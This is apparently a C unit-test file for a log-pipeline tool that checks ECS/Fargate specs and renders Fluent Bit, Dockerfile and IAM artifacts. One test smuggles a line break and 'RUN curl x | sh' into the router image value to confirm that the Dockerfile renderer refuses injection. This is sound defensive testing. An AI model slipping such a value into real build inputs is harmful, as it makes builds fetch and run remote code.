#include "lp_test.h"

#include "diag/diag.h"
#include "plan/check_ecs.h"
#include "render/render_ecs.h"
#include "plan/plan.h"
#include "spec/model.h"

/* A valid Fargate service; cases append keys under its router and containers. */
#define HEAD \
	"version: 1\n" \
	"name: shop\n" \
	"region: ap-northeast-1\n" \
	"account: \"123456789012\"\n" \
	"lake: {bucket: shop-logs, database: shop_logs}\n" \
	"services:\n" \
	"  api:\n" \
	"    launch_type: fargate\n" \
	"    cpu: %s\n" \
	"    memory: %s\n" \
	"    task_role: arn:aws:iam::123456789012:role/t\n" \
	"    execution_role: arn:aws:iam::123456789012:role/e\n" \
	"    router:\n" \
	"      image: %s\n" \
	"      memory: 128\n" \
	"%s" \
	"    containers:\n" \
	"%s"

static const char *one_app = "      app:\n        image: app:1.0\n        memory: 256\n        logs: {fields: {msg: string}}\n";

typedef struct run {
	lp_diag *d;
	lp_model *m;
} run;

static run load_with(const char *cpu, const char *mem, const char *image, const char *router_extra,
	const char *containers)
{
	lp_buf spec = LP_BUF_INIT;
	run r;
	r.d = lp_diag_new();
	r.m = NULL;
	lp_buf_printf(&spec, HEAD, cpu, mem, image, router_extra, containers);
	assert_lp_ok(lp_plan_load_buffer(&r.m, "logpipe.yaml", spec.ptr, spec.size, r.d));
	lp_buf_release(&spec);
	return r;
}

static run load(const char *containers)
{
	return load_with("512", "1024", "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1", "", containers);
}

static void done(run *r)
{
	lp_model_free(r->m);
	lp_diag_free(r->d);
}

/* The first finding with `rule`, or NULL. */
static const lp_diag_entry *find(run *r, const char *rule)
{
	size_t i;
	for (i = 0; i < lp_diag_count(r->d); i++)
		if (!strcmp(lp_diag_get(r->d, i)->rule, rule))
			return lp_diag_get(r->d, i);
	return NULL;
}

static void test_ecs__fargate_sizes_follow_the_table(void **state)
{
	(void)state;
	assert_true(lp_check_ecs_fargate_size(256, 512));
	assert_true(lp_check_ecs_fargate_size(256, 2048));
	assert_false(lp_check_ecs_fargate_size(256, 1536));
	assert_false(lp_check_ecs_fargate_size(256, 4096));
	assert_true(lp_check_ecs_fargate_size(512, 4096));
	assert_false(lp_check_ecs_fargate_size(512, 512));
	assert_true(lp_check_ecs_fargate_size(4096, 30720));
	assert_false(lp_check_ecs_fargate_size(4096, 31744));
	assert_true(lp_check_ecs_fargate_size(8192, 20480));
	assert_false(lp_check_ecs_fargate_size(8192, 18432));
	assert_true(lp_check_ecs_fargate_size(16384, 122880));
	assert_false(lp_check_ecs_fargate_size(300, 1024));
}

static void test_ecs__valid_spec_has_no_findings(void **state)
{
	run r = load(one_app);
	(void)state;
	assert_non_null(r.m);
	assert_int_equal(lp_diag_count(r.d), 0);
	done(&r);
}

static void test_ecs__fargate_size_error_points_at_memory(void **state)
{
	run r = load_with("512", "512", "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1", "", one_app);
	const lp_diag_entry *e = find(&r, "LP-ECS-FARGATE-SIZE");
	(void)state;
	assert_null(r.m);
	assert_non_null(e);
	assert_int_equal(e->span.line, 10);
	assert_string_equal(e->message, "Fargate has no task size with cpu 512 and memory 512");
	done(&r);
}

static void test_ecs__router_must_be_pinned(void **state)
{
	static const char *const unpinned[] = { "fluent:latest", "a/aws-for-fluent-bit:stable",
		"public.ecr.aws/aws-observability/aws-for-fluent-bit", "registry:5000/aws-for-fluent-bit:3" };
	size_t i;
	(void)state;
	for (i = 0; i < sizeof(unpinned) / sizeof(unpinned[0]); i++) {
		run r = load_with("512", "1024", unpinned[i], "", one_app);
		const lp_diag_entry *e = find(&r, "LP-ECS-ROUTER-PIN");
		assert_non_null(e);
		assert_int_equal(e->severity, LP_SEV_ERROR);
		assert_int_equal(e->span.line, 14);
		done(&r);
	}
}

static void test_ecs__router_2x_is_a_warning(void **state)
{
	run r = load_with("512", "1024", "public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.3", "", one_app);
	const lp_diag_entry *e = find(&r, "LP-ECS-ROUTER-EOL");
	(void)state;
	assert_non_null(r.m);
	assert_non_null(e);
	assert_int_equal(e->severity, LP_SEV_WARNING);
	assert_null(find(&r, "LP-ECS-ROUTER-PIN"));
	done(&r);
}

static void test_ecs__fargate_refuses_s3_config(void **state)
{
	run r = load_with("512", "1024", "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1",
		"      config: s3\n      config_s3_bucket: shop-config-bucket\n", one_app);
	const lp_diag_entry *e = find(&r, "LP-ECS-FARGATE-S3");
	(void)state;
	assert_non_null(e);
	assert_int_equal(e->span.line, 16);
	done(&r);
}

static void test_ecs__container_named_like_the_router(void **state)
{
	run r = load("      log_router:\n        image: x:1.0\n");
	(void)state;
	assert_non_null(find(&r, "LP-ECS-ROUTER-NAME"));
	done(&r);
}

static void test_ecs__memory_sum_and_reserved_port(void **state)
{
	run r = load("      app:\n        image: app:1.0\n        memory: 1000\n        port: 24224\n");
	const lp_diag_entry *e = find(&r, "LP-ECS-MEMORY");
	(void)state;
	assert_non_null(e);
	assert_string_equal(e->message, "containers of 'api' need 1128 MiB but the task has 1024 MiB");
	assert_non_null(find(&r, "LP-ECS-PORT"));
	done(&r);
}

static void test_ecs__subset_regex_with_space_is_refused(void **state)
{
	run r = load("      app:\n        image: app:1.0\n        logs:\n"
		"          cloudwatch: {only: {key: level, regex: \"^(WARN|ERROR) x$\"}}\n");
	(void)state;
	assert_non_null(find(&r, "LP-ECS-CW-ONLY"));
	done(&r);
}

static void test_ecs__s3_config_warns_about_the_stock_time_key(void **state)
{
	lp_buf spec = LP_BUF_INIT;
	lp_diag *d = lp_diag_new();
	lp_model *m = NULL;
	size_t i;
	int found = 0;
	(void)state;
	lp_buf_puts(&spec, "version: 1\nname: shop\nregion: ap-northeast-1\naccount: \"123456789012\"\n"
		"lake: {bucket: shop-logs, database: shop_logs}\nservices:\n  jobs:\n    launch_type: ec2\n"
		"    memory: 1024\n    task_role: arn:aws:iam::123456789012:role/t\n    router:\n      image: a/aws-for-fluent-bit:3.2.1\n      memory: 128\n"
		"      config: s3\n      config_s3_bucket: cfg\n    containers:\n      run:\n        image: r:1.0\n"
		"        logs: {fields: {time: timestamp}}\n");
	assert_lp_ok(lp_plan_load_buffer(&m, "logpipe.yaml", spec.ptr, spec.size, d));
	assert_non_null(m);
	for (i = 0; i < lp_diag_count(d); i++)
		found |= !strcmp(lp_diag_get(d, i)->rule, "LP-ECS-S3-TIME");
	assert_true(found);
	lp_model_free(m);
	lp_diag_free(d);
	lp_buf_release(&spec);
}

static void render(lp_artifact_set *set, run *r)
{
	lp_render_run *rr;
	assert_non_null(r->m);
	rr = lp_render_run_new(r->m, NULL);
	assert_lp_ok(lp_render_ecs(set, r->m, rr, r->d));
	lp_render_run_free(rr);
	lp_artifact_set_sort(set);
}

static void test_ecs__renders_every_file_of_a_fargate_service(void **state)
{
	static const char *const paths[] = { "cloudwatch/log-groups.json", "ecs/shop-api.Dockerfile",
		"ecs/shop-api.fluent-bit.conf", "ecs/shop-api.parsers.conf", "ecs/shop-api.task-definition.json",
		"iam/shop-api.execution-policy.json", "iam/shop-api.task-policy.json" };
	lp_artifact_set set = LP_ARTIFACT_SET_INIT;
	run r = load(one_app);
	size_t i;
	(void)state;
	render(&set, &r);
	assert_int_equal(set.n, sizeof(paths) / sizeof(paths[0]));
	for (i = 0; i < set.n; i++)
		assert_string_equal(set.v[i].path, paths[i]);
	assert_non_null(strstr(lp_artifact_find(&set, "ecs/shop-api.fluent-bit.conf")->content.ptr,
		"    Match_Regex        ^app-firelens-[0-9a-fA-F-]+$\n"));
	assert_non_null(strstr(lp_artifact_find(&set, "iam/shop-api.task-policy.json")->content.ptr,
		"\"arn:aws:firehose:ap-northeast-1:123456789012:deliverystream/shop-api-app\""));
	assert_null(strstr(lp_artifact_find(&set, "ecs/shop-api.task-definition.json")->content.ptr, "fluent-bit/etc"));
	assert_int_equal(lp_diag_count(r.d), 0);
	lp_artifact_set_release(&set);
	done(&r);
}

static void test_ecs__container_order_in_the_spec_does_not_matter(void **state)
{
	lp_artifact_set a = LP_ARTIFACT_SET_INIT, b = LP_ARTIFACT_SET_INIT;
	run ra = load("      b:\n        image: b:1.0\n      a:\n        image: a:1.0\n");
	run rb = load("      a:\n        image: a:1.0\n      b:\n        image: b:1.0\n");
	size_t i;
	(void)state;
	render(&a, &ra);
	render(&b, &rb);
	assert_int_equal(a.n, b.n);
	for (i = 0; i < a.n; i++) {
		assert_string_equal(a.v[i].path, b.v[i].path);
		assert_string_equal(a.v[i].content.ptr, b.v[i].content.ptr);
	}
	lp_artifact_set_release(&a);
	lp_artifact_set_release(&b);
	done(&ra);
	done(&rb);
}

static void test_ecs__unsafe_fluent_bit_value_is_an_error_at_its_span(void **state)
{
	lp_artifact_set set = LP_ARTIFACT_SET_INIT;
	run r = load("      app:\n        image: app:1.0\n        logs:\n"
		"          cloudwatch: {only: {key: level, regex: \"^${HOME}$\"}}\n");
	const lp_diag_entry *e;
	(void)state;
	render(&set, &r);
	e = find(&r, "LP-FB-VALUE");
	assert_non_null(e);
	assert_int_equal(e->span.line, 20);
	lp_artifact_set_release(&set);
	done(&r);
}

/*
 * The schema already refuses such an image; the Dockerfile escaper is the
 * second line, so the model is changed after loading to reach it.
 */
static void test_ecs__dockerfile_refuses_a_line_break_in_the_router_image(void **state)
{
	lp_artifact_set set = LP_ARTIFACT_SET_INIT;
	run r = load(one_app);
	const lp_diag_entry *e;
	size_t i, seen = 0;
	(void)state;
	assert_non_null(r.m);
	r.m->services[0].router.image = "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1\nRUN curl x | sh";
	render(&set, &r);
	e = find(&r, "LP-FB-VALUE");
	assert_non_null(e);
	assert_int_equal(e->span.line, 14);
	assert_non_null(strstr(e->message, "router image"));
	assert_non_null(strstr(e->message, "line break"));
	/* Nothing is rendered rather than a Dockerfile with an instruction of the image's own. */
	for (i = 0; i < set.n; i++)
		if (!strcmp(set.v[i].path, "ecs/shop-api.Dockerfile")) {
			assert_int_equal(set.v[i].content.size, 0);
			seen++;
		}
	assert_int_equal(seen, 1);
	lp_artifact_set_release(&set);
	done(&r);
}

/*
 * The lake table's `log` column is filled by the parser filter keeping the
 * line it parsed: for JSON containers that go to the lake, and only for them
 * (CloudWatch-only records would carry every line twice for nothing).
 */
static void test_ecs__router_keeps_the_raw_record_for_the_lake(void **state)
{
	lp_artifact_set set = LP_ARTIFACT_SET_INIT;
	run r = load("      app:\n        image: app:1.0\n        memory: 256\n        logs: {format: json}\n"
		"      cw:\n        image: cw:1.0\n        memory: 256\n        logs: {format: json, to: [cloudwatch]}\n"
		"      txt:\n        image: t:1.0\n        memory: 256\n        logs: {format: text}\n");
	const char *conf, *app, *cw;
	(void)state;
	render(&set, &r);
	conf = lp_artifact_find(&set, "ecs/shop-api.fluent-bit.conf")->content.ptr;
	app = strstr(conf, "# Container app:");
	cw = strstr(conf, "# Container cw:");
	assert_non_null(app);
	assert_non_null(cw);
	assert_true(app < cw);
	assert_non_null(strstr(app, "    Reserve_Data       On\n    Preserve_Key       On\n"));
	assert_true(strstr(app, "Preserve_Key") < cw);
	/* the cw container's parser keeps no copy, and text lines stay in `log` as they are */
	assert_null(strstr(cw, "Preserve_Key"));
	lp_artifact_set_release(&set);
	done(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ecs__fargate_sizes_follow_the_table),
		cmocka_unit_test(test_ecs__valid_spec_has_no_findings),
		cmocka_unit_test(test_ecs__fargate_size_error_points_at_memory),
		cmocka_unit_test(test_ecs__router_must_be_pinned),
		cmocka_unit_test(test_ecs__router_2x_is_a_warning),
		cmocka_unit_test(test_ecs__fargate_refuses_s3_config),
		cmocka_unit_test(test_ecs__container_named_like_the_router),
		cmocka_unit_test(test_ecs__memory_sum_and_reserved_port),
		cmocka_unit_test(test_ecs__subset_regex_with_space_is_refused),
		cmocka_unit_test(test_ecs__s3_config_warns_about_the_stock_time_key),
		cmocka_unit_test(test_ecs__renders_every_file_of_a_fargate_service),
		cmocka_unit_test(test_ecs__router_keeps_the_raw_record_for_the_lake),
		cmocka_unit_test(test_ecs__container_order_in_the_spec_does_not_matter),
		cmocka_unit_test(test_ecs__unsafe_fluent_bit_value_is_an_error_at_its_span),
		cmocka_unit_test(test_ecs__dockerfile_refuses_a_line_break_in_the_router_image),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
